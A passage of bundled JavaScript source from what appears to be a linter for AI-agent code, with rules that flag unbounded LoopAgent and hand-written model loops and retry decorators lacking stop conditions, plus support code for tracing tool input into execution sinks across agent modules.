var unboundedLoopAgentCheck = defineRule({
	...RELIABILITY_BASE,
	id: "reliability/unbounded-loop-agent",
	title: "ADK LoopAgent without max_iterations",
	description: "A Google ADK `LoopAgent` is built without `max_iterations` (Python, TypeScript `maxIterations`, or a YAML agent config). Its default is None: the loop ends only when a sub-agent escalates, which is a model decision. A critic that is never satisfied, a failing tool or an injected instruction keeps every sub-agent running, and paying, forever.",
	severity: "error",
	fixability: "one-click",
	tags: [
		"LLM10:2025",
		"ASI08",
		"CWE-835"
	],
	remediation: "Set `max_iterations` to the most refinement rounds you accept (e.g. `LoopAgent(..., max_iterations=5)`) and keep the exit_loop tool as the early exit.",
	docs: "https://google.github.io/adk-docs/agents/workflow-agents/loop-agents/",
	frameworks: ["google-adk"],
	knows: ["google-adk (Python) `LoopAgent(max_iterations=...)`, default None; YAML agent config `agent_class: LoopAgent`", "@google/adk (TypeScript) `new LoopAgent({ maxIterations })`"],
	precision: "very-high"
}, {
	appliesTo: (file) => isPython(file) || isScript(file) || isYaml(file),
	textHas: [/LoopAgent/],
	async run(context) {
		const { file } = context;
		if (isYaml(file)) {
			const match = /^agent_class[ \t]*:[ \t]*["']?LoopAgent["']?[ \t]*$/m.exec(file.text);
			if (!match || /^max_iterations[ \t]*:[ \t]*\d+/m.test(file.text)) return;
			const fix = yamlFix(file.text, match.index + match[0].length, context.heal);
			context.report({
				start: match.index,
				end: match.index + match[0].length,
				message: `agent_class: LoopAgent ${MESSAGE}`,
				fingerprintContent: "yaml:LoopAgent",
				...fix ? { fix } : { fixability: "structural" }
			});
			return;
		}
		const tree = await context.tree();
		if (!tree) return;
		if (isPython(file)) {
			const imports = pythonImportMap(tree);
			for (const call of calls(tree)) {
				const name = qualifiedCallee(call, imports);
				if (!/^google\.adk\.agents(\.loop_agent)?\.LoopAgent$/.test(name) || hasDictSplat(call)) continue;
				const value = keywordArgument(call, "max_iterations");
				if (value && value.type !== "none") continue;
				const fix = fixOf(`max_iterations=${context.heal.loopAgentMaxIterations} on LoopAgent(...)`, value ? replaceNode(value, String(context.heal.loopAgentMaxIterations)) : addKeywordArgument(call, file.text, "max_iterations", String(context.heal.loopAgentMaxIterations)));
				context.report({
					...spanOf(call),
					message: `LoopAgent(...) ${MESSAGE}`,
					fingerprintContent: "LoopAgent:no-max",
					...fix ? { fix } : { fixability: "structural" }
				});
			}
			return;
		}
		const imports = tsImportMap(tree);
		for (const call of callExpressions(tree)) {
			if (imports.get(tsCalleeText(call)) !== "@google/adk#LoopAgent") continue;
			const options = tsArguments(call)[0];
			if (!options || options.type !== "object" || hasSpread(options)) continue;
			const value = objectProperty(options, "maxIterations");
			if (value && value.type !== "undefined" && value.type !== "null") continue;
			const fix = fixOf(`maxIterations: ${context.heal.loopAgentMaxIterations} on new LoopAgent(...)`, value ? replaceNode(value, String(context.heal.loopAgentMaxIterations)) : addObjectProperty(options, file.text, "maxIterations", String(context.heal.loopAgentMaxIterations)));
			context.report({
				...spanOf(call),
				message: `new LoopAgent(...) ${MESSAGE}`,
				fingerprintContent: "LoopAgent:no-max",
				...fix ? { fix } : { fixability: "structural" }
			});
		}
	}
});
// src/rules/reliability/loop-conditions.ts
/**
* Loop conditions the model decides: the loop goes on while the last answer asks for tools
* (Anthropic `stop_reason == "tool_use"`, OpenAI `finish_reason == "tool_calls"` or
* `message.tool_calls`, Gemini `function_calls`, AI SDK `finishReason`/`toolCalls`).
*/
var MODEL_SIGNAL = /\b(stop_reason|stopReason|finish_reason|finishReason|tool_calls|toolCalls|function_calls|functionCalls|tool_use)\b/;
/** A name in the condition that bounds the loop from outside the model: a counter, a limit or a clock. */
var BOUND_NAME = /(max|limit|budget|deadline|turn|step|iteration|attempt|retries|elapsed|remaining)|time\.|Date\.now|performance\.now/i;
/** True when `condition` keeps looping on the model's answer and nothing in it counts or times the loop. */
function modelDecidedCondition(condition, counters) {
	const text = condition.text;
	if (!MODEL_SIGNAL.test(text)) return false;
	if (BOUND_NAME.test(text.replace(new RegExp(MODEL_SIGNAL.source, "g"), ""))) return false;
	return ![...counters].some((counter) => text.includes(counter));
}
// src/rules/reliability/loop-pacing.ts
/**
* A loop that waits for the next human or queue message is paced by that input (a chat REPL, a
* human-in-the-loop approval, a worker), not by the model: it is not an unbounded model loop.
*/
var PY_PACED_CALLEE = /^(input|getpass(\.getpass)?|.*\.(receive\w*|recv|get_message|readline|consume|listen|ask)|.*queue.*\.get|(click|typer)\.(prompt|confirm)|.*(Prompt|Confirm)\.ask)$/;
/** Human-input helpers named for what they do: input_with_fallback, get_user_input, prompt_user, ask_human, prompt_yes_no. */
var PY_PACED_NAME = /^(input_with_\w+|(get|read|ask|prompt|wait_for)_((user|human)_)?input|(user|human)_input|(prompt|ask)_(user|human)\w*|confirm(_with_\w+)?|prompt_yes_no)$/;
var TS_PACED = /(\.question|\.prompt|readline|\.receive\w*|\.recv|\.read|\.consume|prompt|\.next)$/;
var TS_FUNCTION_SCOPES = [
	"function_declaration",
	"function_expression",
	"arrow_function",
	"method_definition",
	"class_declaration"
];
function pyPacedCall(call) {
	const written = calleeText(call);
	if (PY_PACED_CALLEE.test(written) || PY_PACED_NAME.test(lastSegment(written))) return true;
	return (call.childForFieldName("arguments")?.namedChildren ?? []).some((argument) => argument.type === "identifier" && argument.text === "input");
}
var pacingMemo = /* @__PURE__ */ new WeakMap();
/** Functions defined in the module (and methods, by name) whose own body reads human or queue input; once per tree. */
function pyPacingFunctions(root) {
	const known = pacingMemo.get(root.tree);
	if (known) return known;
	const names = /* @__PURE__ */ new Set();
	pacingMemo.set(root.tree, names);
	for (const definition of root.descendantsOfType("function_definition")) {
		const name = definition.childForFieldName("name")?.text;
		const body = definition.childForFieldName("body");
		if (name && body && descendantsInScope(body, ["call"], PY_NESTED_SCOPES).some(pyPacedCall)) names.add(name);
	}
	return names;
}
/** True when a Python loop body reads human or queue input, directly or through a helper defined in the same file. */
function pyLoopIsPaced(bodyCalls, root) {
	if (bodyCalls.some(pyPacedCall)) return true;
	let helpers;
	return bodyCalls.some((call) => {
		const written = calleeText(call);
		if (!/^(self\.)?\w+$/.test(written)) return false;
		helpers ??= pyPacingFunctions(root);
		return helpers.has(lastSegment(written));
	});
}
/** True when a TypeScript loop body reads a readline answer, a prompt or the next queue/stream item. */
function tsLoopIsPaced(bodyCalls) {
	return bodyCalls.some((call) => TS_PACED.test(tsCalleeText(call)));
}
// src/rules/reliability/unbounded-model-loop.ts
/** Model/agent calls by callee suffix, whatever the receiver is called. */
var PY_MODEL_SUFFIX = /(\.chat\.completions\.(create|parse)|\.responses\.(create|parse)|\.messages\.(create|stream)|\.generate_content(_async)?|\.generate_content_stream)$/;
/** Resolved names that are model/agent calls. */
var PY_MODEL_QUALIFIED = /^(agents\.Runner\.run(_sync|_streamed)?|litellm\.a?completion|ollama\.chat|crewai\.Crew\.kickoff)$/;
/** `.invoke`-style methods count when the receiver name says it is a model, chain, agent or graph. */
var PY_RUNNABLE_METHOD = /^(.*\.)?(\w+)\.(a?invoke|a?run|kickoff|generate|a?stream|chat|run_sync|run_async)$/;
var MODEL_RECEIVER = /(llm|model|chat|chain|agent|graph|executor|crew|runnable|assistant|claude|gpt|gemini)/i;
var TS_MODEL_FUNCTIONS = /^(ai#(generateText|streamText|generateObject|streamObject)|@openai\/agents#run)$/;
var TS_MODEL_SUFFIX = /(\.chat\.completions\.(create|parse)|\.responses\.(create|parse)|\.messages\.(create|stream)|\.generateContent(Stream)?)$/;
function isPyModelCall(call, imports) {
	const written = calleeText(call);
	if (PY_MODEL_SUFFIX.test(written)) return true;
	if (PY_MODEL_QUALIFIED.test(qualifiedCallee(call, imports))) return true;
	const match = PY_RUNNABLE_METHOD.exec(written);
	return !!match && MODEL_RECEIVER.test(match[2] ?? "");
}
/** Identifiers (or `self.x` attributes) that are incremented inside the loop. */
function pyCounters(body) {
	const counters = /* @__PURE__ */ new Set();
	for (const node of descendantsInScope(body, ["augmented_assignment", "assignment"], PY_NESTED_SCOPES)) {
		const left = node.childForFieldName("left")?.text;
		const right = node.childForFieldName("right")?.text ?? "";
		if (!left) continue;
		if (node.type === "augmented_assignment" && /^[+-]=$/.test(node.child(1)?.text ?? "")) counters.add(left);
		else if (node.type === "assignment" && new RegExp(`^${left.replace(/[.[\]]/g, "\\$&")}\\s*[+-]\\s*\\d+$`).test(right)) counters.add(left);
	}
	return counters;
}
/** An `if` that compares a counter or a clock and leaves the loop. */
function pyHasBoundCheck(body, counters) {
	for (const statement of descendantsInScope(body, ["if_statement", "elif_clause"], PY_NESTED_SCOPES)) {
		const condition = statement.childForFieldName("condition");
		if (!condition) continue;
		if (!(condition.type === "comparison_operator" ? [condition] : condition.descendantsOfType("comparison_operator")).some((comparison) => [...counters].some((counter) => comparison.text.includes(counter)) || /time\.(time|monotonic|perf_counter)\(|deadline|elapsed|budget|max_|MAX_|limit|LIMIT/.test(comparison.text))) continue;
		const consequence = statement.childForFieldName("consequence");
		if (consequence && (consequence.descendantsOfType([
			"break_statement",
			"raise_statement",
			"return_statement"
		]).length > 0 || /^(break|raise|return)\b/.test(consequence.text))) return true;
		if (consequence && /\btools\b/.test(consequence.text)) return true;
	}
	return false;
}
function tsCounters(body) {
	const counters = /* @__PURE__ */ new Set();
	for (const node of descendantsInScope(body, ["update_expression", "augmented_assignment_expression"], TS_FUNCTION_SCOPES)) {
		const target = node.type === "update_expression" ? node.childForFieldName("argument") : node.childForFieldName("left");
		if (target) counters.add(target.text);
	}
	return counters;
}
function tsHasBoundCheck(body, counters) {
	for (const statement of descendantsInScope(body, ["if_statement"], TS_FUNCTION_SCOPES)) {
		const condition = statement.childForFieldName("condition");
		if (!condition) continue;
		const text = condition.text;
		if (!([...counters].some((counter) => text.includes(counter)) || /Date\.now\(\)|performance\.now\(\)|deadline|elapsed|budget|max[A-Z_]|MAX_|limit|LIMIT/.test(text)) || !/[<>]=?|===?/.test(text)) continue;
		const consequence = statement.childForFieldName("consequence");
		if (consequence && (consequence.type === "break_statement" || consequence.type === "throw_statement" || consequence.type === "return_statement" || consequence.descendantsOfType([
			"break_statement",
			"throw_statement",
			"return_statement"
		]).length > 0)) return true;
	}
	return false;
}
function pyUnboundedCondition(condition, counters) {
	if (!condition) return false;
	if (condition.type === "true" || condition.type === "integer" && condition.text !== "0") return true;
	if (condition.type === "not_operator" && ["identifier", "attribute"].includes(condition.childForFieldName("argument")?.type ?? "")) return true;
	return modelDecidedCondition(condition, counters);
}
function tsUnboundedLoop(loop, counters) {
	if (loop.type === "for_statement") {
		const condition = loop.childForFieldName("condition");
		return !condition || condition.type === "empty_statement" || condition.text.trim() === ";" || /^(true|1);?$/.test(condition.text.trim());
	}
	const condition = loop.childForFieldName("condition");
	const inner = condition?.type === "parenthesized_expression" ? condition.namedChildren[0] : condition;
	if (!inner) return false;
	if (inner.type === "true" || inner.type === "number" && inner.text !== "0") return true;
	if (inner.type === "unary_expression" && inner.text.startsWith("!") && ["identifier", "member_expression"].includes(inner.namedChildren[0]?.type ?? "")) return true;
	return modelDecidedCondition(inner, counters);
}
var unboundedModelLoopCheck = defineRule({
	...RELIABILITY_BASE,
	id: "reliability/unbounded-model-loop",
	title: "Hand-written agent loop with no iteration bound",
	description: "A `while True` / `while not done` / `for (;;)` loop, or one that runs while the model asks for tools (`while response.stop_reason == \"tool_use\"`, `while message.tool_calls`, `finish_reason == \"tool_calls\"`), calls a model or agent, and nothing outside the model bounds it: no step counter compared to a limit, no deadline. The only exits are model-decided (a stop reason, a missing tool call, a flag the answer sets), so a model that keeps calling tools, a provider error swallowed by an except, or a prompt injection keeps the loop spending tokens forever. Framework loops have a default cap (LangGraph 25 steps, OpenAI Agents 10 turns); a hand-written one does not. Loops paced by user or queue input (a chat REPL, a human approval, a worker) are not flagged.",
	severity: "error",
	fixability: "structural",
	tags: [
		"LLM10:2025",
		"ASI08",
		"CWE-835",
		"CWE-400"
	],
	remediation: "Bound the loop outside the model: `for step in range(MAX_STEPS): ... else: raise StepLimitExceeded` (or a counter checked with break/raise) and a wall-clock deadline; log and surface the limit instead of silently continuing.",
	docs: "https://genai.owasp.org/llmrisk/llm102025-unbounded-consumption/",
	frameworks: [
		"openai-sdk",
		"anthropic-sdk",
		"google-genai",
		"langchain",
		"langgraph",
		"openai-agents",
		"vercel-ai-sdk"
	],
	knows: [
		"anthropic (Python, TS): `messages.create` / `messages.stream`, `stop_reason == \"tool_use\"`",
		"openai (Python, TS): `chat.completions.create|parse`, `responses.create|parse`, `finish_reason == \"tool_calls\"`, `message.tool_calls`",
		"google-genai: `generate_content(_async|_stream)`, `function_calls`; LiteLLM `completion`, Ollama `chat`",
		"OpenAI Agents SDK `Runner.run|run_sync|run_streamed` (each run bounded by max_turns; the loop around it is not)",
		"LangChain/LangGraph runnables (`invoke`, `stream`, …) on a receiver named like a model, chain, agent or graph; CrewAI `kickoff`",
		"AI SDK `generateText`/`streamText`/`generateObject`/`streamObject` (ai 4.x–7.x), OpenAI Agents JS `run`"
	],
	precision: "high"
}, {
	appliesTo: (file) => isPython(file) || isScript(file),
	async run(context) {
		const { file } = context;
		const modelSignal = /stop_reason|stopReason|finish_reason|finishReason|tool_calls|toolCalls|function_calls|functionCalls|tool_use/;
		if (isPython(file) ? !/while\s+(True|1|not\s)/.test(file.text) && !modelSignal.test(file.text) : !/while\s*\(\s*(true|1|!)|for\s*\(\s*;\s*;/.test(file.text) && !modelSignal.test(file.text)) return;
		const tree = await context.tree();
		if (!tree) return;
		/** `head` names the loop in the message; the finding covers the loop's header, up to `end`. */
		const report = (loop, model, head, end) => {
			const callee = isPython(file) ? calleeText(model) : tsCalleeText(model);
			context.report({
				start: loop.startIndex,
				end,
				message: `'${head}' calls ${callee}(...) with no step counter or deadline bounding it, so only the model decides when it stops and a looping model spends tokens without limit.`,
				fingerprintContent: `${head}:${callee}`
			});
		};
		if (isPython(file)) {
			const imports = pythonImportMap(tree);
			for (const loop of tree.rootNode.descendantsOfType("while_statement")) {
				const body = loop.childForFieldName("body");
				if (!body) continue;
				const counters = pyCounters(body);
				if (!pyUnboundedCondition(loop.childForFieldName("condition"), counters)) continue;
				const bodyCalls = descendantsInScope(body, ["call"], PY_NESTED_SCOPES);
				const model = bodyCalls.find((call) => isPyModelCall(call, imports));
				if (!model) continue;
				if (pyLoopIsPaced(bodyCalls, tree.rootNode)) continue;
				if (pyHasBoundCheck(body, counters)) continue;
				const header = loop.text.split("\n")[0].trimEnd().replace(/:$/, "");
				report(loop, model, brief(header), loop.startIndex + header.length);
			}
			return;
		}
		const imports = tsImportMap(tree);
		for (const loop of tree.rootNode.descendantsOfType([
			"while_statement",
			"for_statement",
			"do_statement"
		])) {
			const body = loop.childForFieldName("body");
			if (!body) continue;
			const counters = tsCounters(body);
			if (!tsUnboundedLoop(loop, counters)) continue;
			const bodyCalls = descendantsInScope(body, ["call_expression"], TS_FUNCTION_SCOPES);
			const model = bodyCalls.find((call) => {
				const written = tsCalleeText(call);
				return TS_MODEL_FUNCTIONS.test(tsQualifiedCallee(call, imports)) || TS_MODEL_SUFFIX.test(written);
			});
			if (!model) continue;
			if (tsLoopIsPaced(bodyCalls)) continue;
			if (tsHasBoundCheck(body, counters)) continue;
			const condition = loop.childForFieldName("condition");
			if (loop.type === "for_statement") {
				const head = loop.text.slice(0, loop.text.indexOf(")") + 1);
				report(loop, model, head, loop.startIndex + head.length);
			} else if (loop.type === "do_statement") report(loop, model, `do { ... } while ${brief(condition?.text ?? "")}`, loop.startIndex + 2);
			else report(loop, model, `while ${brief(condition?.text ?? "")}`, condition?.endIndex ?? loop.startIndex + 5);
		}
	}
});
// src/rules/reliability/unbounded-retry.ts
var TENACITY = {
	bounds: ["stop"],
	defaultText: "tenacity defaults to stop_never and retries forever",
	fixKeyword: "stop"
};
var BACKOFF = {
	bounds: ["max_tries", "max_time"],
	defaultText: "backoff defaults to max_tries=None and max_time=None and retries forever",
	fixKeyword: "max_tries"
};
var RETRYING = {
	bounds: [
		"stop",
		"stop_max_attempt_number",
		"stop_max_delay",
		"stop_func"
	],
	defaultText: "retrying has no stop by default and retries forever",
	fixKeyword: "stop_max_attempt_number"
};
var RETRY_PKG = {
	bounds: ["tries"],
	defaultText: "the retry package defaults to tries=-1 and retries forever",
	fixKeyword: "tries"
};
/**
* True when each name means tenacity's in this module or is free to import: not bound to another
* module, and tenacity's is not imported under an alias (the import merge would then skip it).
*/
function namesFree(names, imports) {
	for (const [local, qualified] of imports) {
		if (names.includes(local) && qualified !== `tenacity.${local}`) return false;
		if (names.some((name) => qualified === `tenacity.${name}`) && !names.includes(local)) return false;
	}
	return true;
}
/**
* The fix for one finding. tenacity: `stop=stop_after_attempt(5)` (a bare `@retry` also gets
* `wait=wait_exponential(...)`, since its default is no wait at all), written with the module prefix
* the decorator uses (`tenacity.retry` → `tenacity.stop_after_attempt`) or imported from tenacity;
* `stop=stop_never` becomes `stop_after_attempt(5)`. backoff: `max_tries=5`; retrying:
* `stop_max_attempt_number=5`; retry: `tries=5`. undefined when no exact edit exists.
*/
function boundFix(api, target, call, never, text, imports, heal) {
	const attempts = heal.retryStopAttempts;
	const written = target.text.replace(/\s+/g, "");
	const dot = written.lastIndexOf(".");
	const prefix = dot === -1 ? "" : written.slice(0, dot + 1);
	if (api !== TENACITY) {
		if (!call && api === BACKOFF) return void 0;
		const pair = `${api.fixKeyword}=${attempts}`;
		const edit = call ? addKeywordArgument(call, text, api.fixKeyword, String(attempts)) : {
			start: target.endIndex,
			end: target.endIndex,
			text: `(${pair})`
		};
		return edit ? {
			description: `${pair} on ${written}`,
			edits: [edit]
		} : void 0;
	}
	const names = call ? ["stop_after_attempt"] : ["stop_after_attempt", "wait_exponential"];
	if (prefix === "" && !namesFree(names, imports)) return void 0;
	const stop = `${prefix}stop_after_attempt(${attempts})`;
	let edit;
	if (never) {
		const valueText = never.text.trim();
		const valuePrefix = valueText.slice(0, valueText.lastIndexOf(".") + 1);
		if (valuePrefix === "" && !namesFree(["stop_after_attempt"], imports)) return void 0;
		edit = replaceNode(never, `${valuePrefix}stop_after_attempt(${attempts})`);
		return {
			description: `stop=${valuePrefix}stop_after_attempt(${attempts}) instead of stop_never on ${written}`,
			edits: [edit],
			...valuePrefix === "" ? { pythonImports: [{
				from: "tenacity",
				names: ["stop_after_attempt"]
			}] } : {}
		};
	}
	if (call) edit = addKeywordArgument(call, text, "stop", stop);
	else edit = replaceNode(target, `${written}(stop=${stop}, wait=${prefix}wait_exponential(multiplier=1, max=${heal.retryMaxWaitSeconds}))`);
	if (!edit) return void 0;
	return {
		description: call ? `stop=${stop} on ${written}(...)` : `stop=${stop} and exponential wait on @${written}`,
		edits: [edit],
		...prefix === "" ? { pythonImports: [{
			from: "tenacity",
			names
		}] } : {}
	};
}
/** Fully qualified decorator/constructor → the API it belongs to. */
var RETRY_APIS = {
	"tenacity.retry": TENACITY,
	"tenacity.Retrying": TENACITY,
	"tenacity.AsyncRetrying": TENACITY,
	"backoff.on_exception": BACKOFF,
	"backoff.on_predicate": BACKOFF,
	"retrying.retry": RETRYING,
	"retry.retry": RETRY_PKG
};
function resolve$1(node, imports) {
	const written = node.text.replace(/\s+/g, "");
	const [head, ...rest] = written.split(".");
	const resolved = head !== void 0 ? imports.get(head) : void 0;
	return resolved ? [resolved, ...rest].join(".") : written;
}
/** `stop=stop_never` (or `tenacity.stop_never`) is an explicit unbounded stop. */
function isStopNever(value) {
	return !!value && /(^|\.)stop_never$/.test(value.text.trim());
}
// src/rules/reliability/index.ts
/** SRE / reliability checks, in a fixed order so reports are deterministic. */
var RELIABILITY_CHECKS = [
	modelClientNoTimeoutCheck,
	httpCallNoTimeoutCheck,
	aiSdkCallNoTimeoutCheck,
	retriesDisabledCheck,
	adkGeminiNoRetryCheck,
	defineRule({
		...RELIABILITY_BASE,
		id: "reliability/unbounded-retry",
		title: "Retry decorator without a stop condition",
		description: "A tenacity `@retry`/`Retrying`, a backoff `@on_exception`/`@on_predicate`, or a retrying/retry decorator has no attempt or time limit. All of them retry forever by default: a provider outage or a permanent error (bad request, revoked key) turns into an endless loop of paid or rate-limited calls that never surfaces the failure.",
		severity: "warning",
		fixability: "one-click",
		tags: [
			"LLM10:2025",
			"ASI08",
			"CWE-835",
			"CWE-400"
		],
		remediation: "Bound every retry: `@retry(stop=stop_after_attempt(5) | stop_after_delay(60), wait=wait_random_exponential(max=30))`, `@backoff.on_exception(backoff.expo, RateLimitError, max_tries=5, max_time=60)`; retry only transient errors (`retry=retry_if_exception_type(...)`).",
		docs: "https://tenacity.readthedocs.io/en/latest/#stopping",
		frameworks: [],
		knows: ["tenacity (`retry`, `Retrying`, `AsyncRetrying`, `stop_never`), backoff (`on_exception`, `on_predicate`), retrying, retry"],
		precision: "very-high"
	}, {
		appliesTo: isPython,
		textHas: [/tenacity|backoff|retrying|\bretry\b/],
		async runOnTree(context, tree) {
			const { file } = context;
			const imports = pythonImportMap(tree);
			const check = (node, target, call) => {
				const name = resolve$1(target, imports);
				const api = RETRY_APIS[name];
				if (!api) return;
				if (call && hasDictSplat(call)) return;
				const bounds = call ? api.bounds.map((keyword) => keywordArgument(call, keyword)).filter((value) => value !== void 0) : [];
				const explicitNever = bounds.length > 0 && bounds.every(isStopNever);
				if (bounds.length > 0 && !explicitNever) return;
				const never = explicitNever && bounds.length === 1 ? bounds[0] : void 0;
				const fix = explicitNever && !never ? void 0 : boundFix(api, target, call, never, file.text, imports, context.heal);
				const written = target.text.replace(/\s+/g, "");
				const shown = call ? `${written}(...)` : written;
				context.report({
					...spanOf(node),
					message: explicitNever ? `${shown} sets stop=stop_never, so it retries forever.` : `${shown} has no ${api.bounds.slice(0, 2).join("/")}, and ${api.defaultText}.`,
					fingerprintContent: `${name}:${explicitNever ? "stop_never" : "no-stop"}`,
					...fix ? { fix } : { fixability: "structural" }
				});
			};
			const decoratorCalls = /* @__PURE__ */ new Set();
			for (const decorator of tree.rootNode.descendantsOfType("decorator")) {
				const expression = decorator.namedChildren[0];
				if (!expression) continue;
				if (expression.type === "call") {
					decoratorCalls.add(expression.startIndex);
					const target = expression.childForFieldName("function");
					if (target) check(decorator, target, expression);
				} else if (expression.type === "identifier" || expression.type === "attribute") check(decorator, expression, void 0);
			}
			for (const call of calls(tree)) {
				if (decoratorCalls.has(call.startIndex)) continue;
				const name = qualifiedCallee(call, imports);
				if (name !== "tenacity.Retrying" && name !== "tenacity.AsyncRetrying") continue;
				const target = call.childForFieldName("function");
				if (target) check(call, target, call);
			}
		}
	}),
	retiredModelCheck,
	floatingModelAliasCheck,
	unboundedModelLoopCheck,
	unboundedAgentStepsCheck,
	unboundedLoopAgentCheck,
	missingRetryOnHttpToolCheck
];
// src/rules/security/support/common.ts
var PY_OR_TS = (language) => language === "python" || language === "typescript" || language === "javascript";
/** Shortens a name list for a message: `'cmd'`, `'cmd', 'args'`. */
function quoteNames(names) {
	return names.slice(0, 3).map((name) => `'${name}'`).join(", ");
}
/** Names defined under a node, per tree and node (sinks ask once per candidate call, so the walk runs once). */
var definedNamesMemo = /* @__PURE__ */ new WeakMap();
function definedNames(root, types) {
	let byRoot = definedNamesMemo.get(root.tree);
	if (!byRoot) definedNamesMemo.set(root.tree, byRoot = /* @__PURE__ */ new Map());
	const key = `${root.id}|${types.join(",")}`;
	let names = byRoot.get(key);
	if (!names) {
		names = /* @__PURE__ */ new Set();
		for (const definition of root.descendantsOfType([...types])) {
			const name = definition.childForFieldName("name")?.text;
			if (name) names.add(name);
		}
		byRoot.set(key, names);
	}
	return names;
}
var PY_DEFINITIONS = ["function_definition", "class_definition"];
var TS_DEFINITIONS = [
	"function_declaration",
	"variable_declarator",
	"class_declaration"
];
/** True when `name` is defined or imported in the module, so a bare call to it is not the builtin. */
function pythonShadows(root, imports, name) {
	return imports.has(name) || definedNames(root, PY_DEFINITIONS).has(name);
}
function tsShadows(root, imports, name) {
	return imports.has(name) || definedNames(root, TS_DEFINITIONS).has(name);
}
/** `vm` / `child_process` bound by `import x from 'node:vm'`, `import * as x`, `import { runInNewContext }` or `require('vm')`. */
function nodeModuleBindings(root, imports, moduleName) {
	const namespaces = /* @__PURE__ */ new Set();
	const named = /* @__PURE__ */ new Map();
	const modules = /* @__PURE__ */ new Set([moduleName, `node:${moduleName}`]);
	for (const [local, target] of imports) {
		const [module, exported] = target.split("#");
		if (!module || !modules.has(module)) continue;
		if (exported === "default" || exported === "*") namespaces.add(local);
		else if (exported) named.set(local, exported);
	}
	for (const declarator of root.descendantsOfType("variable_declarator")) {
		const value = declarator.childForFieldName("value");
		if (value?.type !== "call_expression" || value.childForFieldName("function")?.text !== "require") continue;
		const argument = value.childForFieldName("arguments")?.namedChildren[0];
		if (!argument || !modules.has(argument.text.slice(1, -1))) continue;
		const name = declarator.childForFieldName("name");
		if (name?.type === "identifier") namespaces.add(name.text);
		else if (name?.type === "object_pattern") {
			for (const child of name.namedChildren) if (child.type === "shorthand_property_identifier_pattern") named.set(child.text, child.text);
			else if (child.type === "pair_pattern") {
				const key = child.childForFieldName("key")?.text;
				const local = child.childForFieldName("value")?.text;
				if (key && local) named.set(local, key);
			}
		}
	}
	return {
		namespaces,
		named
	};
}
/** How the injection rules follow tool input into helpers, for their descriptions. */
var HELPER_HOP_SENTENCE = "One call is followed: a tool that passes its input to a function of the same file or of another module of the agent (found through the imports) is reported at that call when the function's parameter reaches the sink.";
/** What the injection rules know about how tools are declared; docs/RULES.md lists it. */
var TOOL_DECLARATIONS_KNOWN = [
	"Google ADK (Python): a plain function in an agent's `tools=[...]` is wrapped as a `FunctionTool` (https://google.github.io/adk-docs/tools-custom/function-tools), also when the function is imported from another module of the agent; `FunctionTool(func=...)` likewise",
	"LangChain, CrewAI and smolagents `@tool`, OpenAI Agents `@function_tool`, Pydantic AI `@agent.tool`/`@agent.tool_plain`, FastMCP `@mcp.tool()`; CrewAI/LangChain `BaseTool._run`, smolagents `Tool.forward`",
	"Vercel AI SDK, OpenAI Agents JS and Mastra `tool({ execute })` / `createTool({ execute })`; LangChain.js `tool(fn)` and `DynamicStructuredTool({ func })`",
	"Imports followed one hop: Python relative and absolute imports of the agent's own modules (with `__init__.py` re-exports), TS/JS relative imports (`./x.js` is `./x.ts`, `index` files, `export ... from`)"
];
/** The frameworks whose tool declarations TOOL_DECLARATIONS_KNOWN describes: the injection rules' `frameworks`. */
var TOOL_FRAMEWORKS = [
	"langchain",
	"crewai",
	"smolagents",
	"openai-agents",
	"pydantic-ai",
	"google-adk",
	"vercel-ai-sdk",
	"mastra"
];
/**
* The finding for one helper flow. `tool` says whose input it is (`fetch_page (tools=[...])`), `param` how the
* helper's parameter is shown, `reaches` how the value arrives (`to`, `as the URL host of`) and `tail` the rule's
* own consequence, punctuation included (`; ` + risk, `, so …`).
*/
function helperFlowReport(flow, parts) {
	return {
		...spanOf(flow.call),
		message: `${flow.helper}(...) passes tool input ${quoteNames(flow.names)} of ${parts.tool} ${parts.reaches} ${flow.sink.label} at ${flow.where} (its parameter ${parts.param})${parts.tail}`,
		fingerprintContent: `${flow.helper}|${flow.sink.label}|${flow.names.join(",")}`
	};
}
// src/rules/security/support/agent-modules.ts
/**
* The agent's modules as the cross-module security analysis reads them: each other file parsed at most
* once per audit batch, on demand. The file under check is handed in with its own tree, so it is never
* parsed twice; other files are parsed only when an import reaches them or they hand tools to the model.
*/
var AgentModules = class {
	files;
	paths;
	parsed = /* @__PURE__ */ new Map();
	current;
	/** Per-agent results built from several modules (tool registrations), memoised by name. */
	memo = /* @__PURE__ */ new Map();
	constructor(files) {
		this.files = files;
		this.paths = new Set(files.paths);
	}
	/** The file now under check, with the (lazily parsed) tree its checks share. */
	adopt(file, tree) {
		if (this.current?.file === file) return;
		this.current = {
			file,
			module: async () => {
				const parsed = await tree();
				return parsed ? {
					file,
					tree: parsed
				} : void 0;
			}
		};
	}
	module(path) {
		if (this.current?.file.path === path) return this.current.module();
		let module = this.parsed.get(path);
		if (!module) {
			module = this.files.read(path).then(async (file) => {
				if (!file) return void 0;
				const tree = await (this.files.moduleTree ? this.files.moduleTree(file) : parseSource(file.language, file.path, file.text));
				return tree ? {
					file,
					tree
				} : void 0;
			});
			this.parsed.set(path, module);
		}
		return module;
	}
	/** Text of a module without parsing it (cheap prefilters). */
	async text(path) {
		if (this.current?.file.path === path) return this.current.file.text;
		return (await this.files.read(path))?.text;
	}
	/** A value computed once per agent from several modules. */
	once(key, build) {
		let value = this.memo.get(key);
		if (!value) this.memo.set(key, value = build());
		return value;
	}
};
var byAgent = /* @__PURE__ */ new WeakMap();
var byFile = /* @__PURE__ */ new WeakMap();
/** The modules of the agent the checked file belongs to (just that file when the caller gave no agent). */
function agentModules(context) {
	let modules;
	if (context.agentFiles) {
		modules = byAgent.get(context.agentFiles);
		if (!modules) byAgent.set(context.agentFiles, modules = new AgentModules(context.agentFiles));
	} else {
		modules = byFile.get(context.file);
		if (!modules) {
			const file = context.file;
			modules = new AgentModules({
				paths: [file.path],
				read: async (path) => path === file.path ? file : void 0
			});
			byFile.set(file, modules);
		}
	}
	modules.adopt(context.file, context.tree);
	return modules;
}
// src/rules/security/support/helper-summary.ts
/**
* A helper's summary for one rule (Python and TS alike), computed once per tree: the map is stored before
* `fill` runs, and a helper whose text cannot hold the rule's sinks keeps it empty without a look.
*/
function memoisedHelperSummary(memo, helper, spec, fill) {
	const tree = helper.module.tree;
	let byKey = memo.get(tree);
	if (!byKey) memo.set(tree, byKey = /* @__PURE__ */ new Map());
	const key = `${helper.fn.id}:${spec.key}`;
	const known = byKey.get(key);
	if (known) return known;
	const summary = /* @__PURE__ */ new Map();
	byKey.set(key, summary);
	if (spec.mayHaveSink.test(helper.fn.text)) fill(summary);
	return summary;
}
// src/rules/security/support/flow-taint.ts
var FlowTaint = class {
